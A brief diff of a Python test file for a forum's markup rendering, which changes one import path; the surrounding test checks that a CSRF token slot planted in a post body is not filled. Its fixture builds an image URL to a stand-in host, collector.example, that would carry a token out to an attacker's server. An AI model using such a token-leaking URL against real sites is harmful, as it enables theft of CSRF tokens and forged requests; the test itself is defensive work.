@@ -494,7 +494,7 @@ def test_a_post_body_holding_the_csrf_slot_keeps_it_and_only_the_forms_get_the_t
     import re
 
     from forum.cache import _csrf_slot
-    from forum.posts.markup import render_post_body
+    from forum.markup import render_post_body
 
     # An author who knows SECRET_KEY plants the slot where a token would reach their server.
     planted = f"https://collector.example/{_csrf_slot()}.png"
